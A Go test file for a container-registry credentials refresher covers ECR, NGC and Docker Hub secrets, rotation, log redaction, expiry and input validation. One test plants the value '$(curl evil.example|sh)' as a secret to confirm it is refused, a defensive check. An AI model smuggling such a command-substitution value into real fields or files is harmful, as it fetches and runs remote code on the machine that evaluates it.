package credentials

import (
	"context"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/enroot-agent/enroot-agent/internal/testenv"
)

const roleARN = "arn:aws:iam::210987654321:role/ecr-pull"

// kindsYAML is the acceptance config: the node's account registry, one in
// another account through a role, ECR Public, NGC from Secrets Manager and
// Docker Hub from SSM.
const kindsYAML = `ecr:
  registries:
    - 123456789012.dkr.ecr.us-east-1.amazonaws.com
    - {host: 210987654321.dkr.ecr.eu-west-1.amazonaws.com, role_arn: "` + roleARN + `"}
  public: true
secrets:
  registries:
    - {name: ngc, kind: ngc, source: "secretsmanager:cluster/ngc"}
    - {name: hub, kind: dockerhub, login: hpcbot, source: "ssm:/cluster/hub"}
`

type kindsEnv struct {
	ecr    *testenv.ECR
	pub    *testenv.ECRPublic
	sts    *testenv.STS
	stores *testenv.SecretStore
}

// kindsEmulators adds ECR Public, STS and the secret stores to the IMDS and
// ECR emulators, each reached by the real SDK through its endpoint variable.
func kindsEmulators(t *testing.T) kindsEnv {
	_, ecr := awsEmulators(t)
	ecr.AccessKey = "" // the node's and the role's keys both sign ECR calls
	e := kindsEnv{ecr: ecr, pub: testenv.StartECRPublic(t, "pubtoken1"),
		sts: testenv.StartSTS(t, map[string]string{roleARN: "ASIAROLEKEY"}), stores: testenv.StartSecretStore(t)}
	ecr.SetPassword("nodetoken1")
	ecr.SetPasswordFor("ASIAROLEKEY", "roletoken1")
	t.Setenv("AWS_ENDPOINT_URL_ECR_PUBLIC", e.pub.URL)
	t.Setenv("AWS_ENDPOINT_URL_STS", e.sts.URL)
	t.Setenv("AWS_ENDPOINT_URL_SECRETS_MANAGER", e.stores.URL)
	t.Setenv("AWS_ENDPOINT_URL_SSM", e.stores.URL)
	e.stores.Set("secretsmanager:cluster/ngc", "ngckey1")
	e.stores.Set("ssm:/cluster/hub", "dckr_pat_1")
	return e
}

func readFile(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestEveryKindWritesItsLines(t *testing.T) {
	e := kindsEmulators(t)
	r, logs, file := realRefresher(t, kindsYAML)
	ctx := context.Background()
	if err := r.RefreshNow(ctx); err != nil {
		t.Fatal(err)
	}
	want := `machine 123456789012.dkr.ecr.us-east-1.amazonaws.com login AWS password nodetoken1
machine 210987654321.dkr.ecr.eu-west-1.amazonaws.com login AWS password roletoken1
machine public.ecr.aws login AWS password pubtoken1
machine nvcr.io login $oauthtoken password ngckey1
machine authn.nvidia.com login $oauthtoken password ngckey1
machine auth.docker.io login hpcbot password dckr_pat_1
machine registry-1.docker.io login hpcbot password dckr_pat_1
`
	if got := readFile(t, file); got != want {
		t.Fatalf("credentials file:\n%s\nwant:\n%s", got, want)
	}
	if e.sts.Calls(roleARN) != 1 || e.pub.Calls() != 1 {
		t.Errorf("AssumeRole calls %d, ecr-public calls %d", e.sts.Calls(roleARN), e.pub.Calls())
	}
	// A rotation reaches the file with the secrets' own refresh, with no
	// ECR call.
	e.stores.Set("secretsmanager:cluster/ngc", "ngckey2")
	calls := e.ecr.Calls("")
	if err := r.RefreshSecrets(ctx); err != nil {
		t.Fatal(err)
	}
	if got := readFile(t, file); !strings.Contains(got, "machine nvcr.io login $oauthtoken password ngckey2\n") || strings.Contains(got, "ngckey1") {
		t.Errorf("rotated NGC key not written:\n%s", got)
	}
	if e.ecr.Calls("") != calls {
		t.Error("a secrets refresh called ECR")
	}
	for _, s := range []string{"nodetoken1", "roletoken1", "pubtoken1", "ngckey1", "ngckey2", "dckr_pat_1"} {
		if strings.Contains(logs.String(), s) {
			t.Errorf("a secret reached the log: %s", s)
		}
	}
}

func TestRefusedSecretKeepsLastGoodUntilMaxAge(t *testing.T) {
	e := kindsEmulators(t)
	r, _, file := realRefresher(t, kindsYAML+"  max_age: 2h\n")
	now := time.Now()
	r.Now = func() time.Time { return now }
	ctx := context.Background()
	if err := r.RefreshNow(ctx); err != nil {
		t.Fatal(err)
	}
	e.stores.Set("secretsmanager:cluster/ngc", "$(curl evil.example|sh)")
	err := r.RefreshSecrets(ctx)
	if err == nil || !strings.Contains(err.Error(), `secrets registry "ngc"`) || !strings.Contains(err.Error(), `starts with "$"`) || strings.Contains(err.Error(), "curl") {
		t.Fatalf("refusal error: %v", err)
	}
	if got := readFile(t, file); !strings.Contains(got, "password ngckey1\n") || strings.Contains(got, "curl") {
		t.Fatalf("the last good value must stay, the refused one never be written:\n%s", got)
	}
	now = now.Add(2*time.Hour + time.Second) // the last good read's max_age has passed
	_ = r.RefreshSecrets(ctx)
	if got := readFile(t, file); strings.Contains(got, "nvcr.io") || !strings.Contains(got, "registry-1.docker.io") {
		t.Fatalf("the NGC lines must be gone after max_age, the others kept:\n%s", got)
	}
	// A secret deleted from its store is withdrawn at once.
	e.stores.Delete("ssm:/cluster/hub")
	if err := r.RefreshSecrets(ctx); err == nil || !strings.Contains(err.Error(), "no longer exists") {
		t.Fatalf("withdrawal error: %v", err)
	}
	if got := readFile(t, file); strings.Contains(got, "docker.io") {
		t.Fatalf("withdrawn secret still served:\n%s", got)
	}
}

func TestCheckValue(t *testing.T) {
	for _, v := range []string{"", "$x", "a b", "a\nb", "a\x00b", "a\tb", "a#b", "\xff"} {
		if checkValue(v) == nil {
			t.Errorf("%q accepted", v)
		}
	}
	if err := checkValue("nvapi-AbC_12.3-x/y+z="); err != nil {
		t.Error(err)
	}
}
